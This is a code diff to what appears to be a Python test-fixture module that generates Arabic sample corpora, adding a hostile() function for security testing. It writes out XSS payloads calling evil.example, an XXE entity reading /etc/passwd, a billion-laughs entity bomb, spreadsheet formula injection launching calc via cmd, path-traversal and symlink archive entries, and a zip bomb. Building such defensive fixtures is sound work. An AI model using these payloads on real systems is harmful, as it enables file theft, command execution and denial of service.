@@ -163,7 +163,8 @@ def of_every_format():
         "l.txt": f"<DOC>\n<DOCNO>n1</DOCNO>\n<TITLE>خبر</TITLE>\n<TEXT>\n{TEXT}\n</TEXT>\n</DOC>\n",
         "m.txt": "\n".join(f"neg\t{TEXT} {n}\t0" for n in range(6)),
         "h.mht": "MIME-Version: 1.0\nSnapshot-Content-Location: http://site.example/a\n"
-        f'Content-Type: multipart/related; boundary="B"\n\n--B\nContent-Type: text/html; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n{ARTICLE}'
+        'Content-Type: multipart/related; boundary="B"\n\n--B\nContent-Type: text/html; charset="utf-8"\n'
+        f"Content-Transfer-Encoding: 8bit\n\n{ARTICLE}"
         "\n--B--\n",
     }  # fmt: skip
     made = {name: text.encode() for name, text in made.items()}
@@ -174,3 +175,46 @@ def of_every_format():
     }
     inside = {f"جريدة/{name}": data for name, data in list(made.items())[:6]}
     return made | {"r.zip": archive_zip(inside), "s.tar.gz": archive_tar(inside), "t.tar": archive_tar(inside, "w")}
+
+
+EVIL = (
+    "<script>document.title='hacked';fetch('http://evil.example/s')</script>"
+    "<img src='http://evil.example/i.png' onerror=\"document.title='hacked'\"><svg onload=\"document.title='hacked'\">"
+)
+BILLION = (
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ها ها ها ها ها">'
+    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
+    + f"]><items><item><text>{TEXT} &a11;</text></item></items>"
+)
+OUTSIDE = (
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">'
+    '<!ENTITY y SYSTEM "http://evil.example/">]>'
+    f"<items><item><text>{TEXT} &x; &y;</text></item></items>"
+)
+
+
+def hostile():
+    """Name -> bytes of a corpus that means harm: scripts, formulas, paths that lead out, entity bombs."""
+    formulas = ['=HYPERLINK("http://evil.example","نص")', "+cmd|'/c calc'!A1", "@SUM(1)", "-1+1"]
+    rows = [
+        {"id": f"{EVIL}{n}", "title": f"{EVIL} عنوان {n}", "source": f"{formulas[n % 4]}", "category": f"فئة{EVIL}",
+         "date": f"2018-0{n % 9 + 1}-01", "url": "javascript:document.title='hacked'", EVIL: formulas[n % 4],
+         "text": f"{TEXT} {EVIL} كلمة{n} {formulas[n % 4]} <b>نص</b> $\\\\alpha$ {{{{7*7}}}} الوزير الدولة {n}"}
+        for n in range(24)
+    ]  # fmt: skip
+    body = f'<body onload="document.title=1">{EVIL}<iframe src="http://evil.example/"></iframe>'
+    page = ARTICLE.replace("<body>", body)
+    made = {
+        "a.jsonl": "\n".join(json.dumps(row, ensure_ascii=False) for row in rows), "bomb.xml": BILLION,
+        "outside.xml": OUTSIDE,
+        "page.html": page.replace(TEXT, f"{TEXT} &lt;script&gt;document.title=1&lt;/script&gt;"),
+        f"{EVIL.replace('/', '')[:100]}.txt": f"{EVIL} {TEXT}",
+        "formulas.csv": "id,title,text\n" + "".join(f'f{n},"{f.replace(chr(34), chr(34) * 2)}",{TEXT} {n}\n'
+                                                    for n, f in enumerate(formulas)),
+    }  # fmt: skip
+    made = {name: text.encode() for name, text in made.items()}
+    link = tarfile.TarInfo("link.txt")
+    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
+    outside = {"../evil.txt": TEXT, "/evil.txt": TEXT, "good.txt": f"{TEXT} من الأرشيف", "bomb.txt": bytes(300_000_000)}
+    made |= {"a.zip": archive_zip(outside), "a.tar.gz": archive_tar({**outside, "link": link})}
+    return made
